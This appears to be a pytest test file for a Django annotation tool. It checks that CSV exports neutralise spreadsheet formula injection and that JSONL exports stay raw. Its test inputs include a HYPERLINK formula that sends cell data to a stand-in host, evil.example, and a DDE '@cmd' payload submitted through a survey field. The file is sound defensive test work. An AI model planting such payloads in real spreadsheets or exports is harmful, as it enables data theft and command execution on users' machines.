"""CSV formula injection: every CSV export neutralises cells a spreadsheet would run; JSONL stays raw."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotations import services
from annotations.common.csv_writer import spreadsheet_safe
from annotations.exports.writers import render_rows_csv
from annotations.models import Assignment
from scoring.reflect.page_figures import table_csv
from tests.support.django_fixtures import client_for

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_gets_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["plain note", "", "a=b", "1-2", -0.5, -3, True, None])
def test_other_values_are_unchanged(value):
    # Numbers stay numbers: a negative number is not a formula.
    assert spreadsheet_safe(value) == value


def test_every_csv_writer_uses_it():
    rows = [{"a": FORMULAS[0], "b": -1.5}]
    for text in (render_rows_csv(rows, ["a", "b"]), table_csv(rows)):
        parsed = list(csv.DictReader(io.StringIO(text)))
        assert parsed == [{"a": "'" + FORMULAS[0], "b": "-1.5"}]


@pytest.fixture
def formula_note(batch, annotators):
    assignment = Assignment.objects.filter(annotator=annotators[0]).first()
    services.annotation_submit(
        assignment=assignment, hard_refusal=False, cue_label="retained", note=FORMULAS[0]
    )
    return FORMULAS[0]


@pytest.mark.django_db
def test_web_csv_is_neutralised_and_jsonl_stays_raw(batch, formula_note, staff_client):
    slug = batch.study.slug
    body = staff_client.get(reverse("staff:export_annotations", args=[slug, "csv"])).content
    notes = [r["note"] for r in csv.DictReader(io.StringIO(body.decode()))]
    assert notes == ["'" + formula_note]
    body = staff_client.get(reverse("staff:export_annotations", args=[slug, "jsonl"])).content
    assert [json.loads(line)["note"] for line in body.decode().splitlines()] == [formula_note]


@pytest.mark.django_db
def test_cli_csv_is_neutralised_and_jsonl_stays_raw(batch, formula_note, tmp_path):
    out = tmp_path / "a.csv"
    call_command("export_annotations", study=batch.study.slug, out=out, stdout=io.StringIO())
    notes = [r["note"] for r in csv.DictReader(out.open(encoding="utf-8"))]
    assert notes == ["'" + formula_note]
    out = tmp_path / "a.jsonl"
    call_command(
        "export_annotations", study=batch.study.slug, out=out, format="jsonl", stdout=io.StringIO()
    )
    assert json.loads(out.read_text().splitlines()[0])["note"] == formula_note


@pytest.mark.django_db
def test_annotator_cannot_smuggle_a_formula_through_the_survey(batch, annotators, staff_client):
    assignment = Assignment.objects.filter(annotator=annotators[1]).first()
    client = client_for(annotators[1])
    client.post(
        reverse("annotations:answer", args=[assignment.pk]),
        {"answer": "erased", "note": "@cmd|' /C calc'!A0"},
    )
    body = staff_client.get(reverse("staff:export_annotations", args=[batch.study.slug, "csv"]))
    assert "'@cmd|" in body.content.decode()
